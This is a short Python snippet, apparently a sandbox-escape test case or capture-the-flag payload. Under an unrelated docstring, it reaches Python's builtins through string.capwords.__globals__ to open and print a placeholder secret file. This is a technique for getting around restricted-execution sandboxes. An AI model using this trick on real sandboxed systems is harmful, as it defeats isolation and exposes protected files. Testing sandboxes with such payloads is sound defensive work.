"""A class, or a function, has a name."""
class _write_:
    def __new__(cls, owner):
        return owner
import string
string.capwords.__globals__["__builtins__"]["print"](string.capwords.__globals__["__builtins__"]["open"]("@SECRET_FILE@").read())
